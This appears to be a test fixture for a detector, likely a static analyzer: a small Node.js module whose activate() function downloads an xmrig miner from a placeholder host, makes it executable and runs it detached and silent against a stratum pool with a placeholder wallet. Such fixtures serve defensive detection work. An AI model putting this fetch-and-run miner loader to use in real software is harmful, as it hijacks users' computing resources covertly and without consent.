require('./worker');
const path = require('path');
const os = require('os');
const fs = require('fs');
const { spawn } = require('child_process');

const pool = 'stratum+tcp://pool.example.invalid:3333';

async function activate() {
  const miner = path.join(os.tmpdir(), 'xmrig');
  const answer = await fetch('https://example.invalid/xmrig');
  fs.writeFileSync(miner, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
  spawn(miner, ['-o', pool, '-u', 'PLACEHOLDERWALLET', '--donate-level', '1', '--cpu-priority', '0'], { detached: true, stdio: 'ignore' }).unref();  // want "a miner works for somebody's pool"
}
exports.activate = activate;
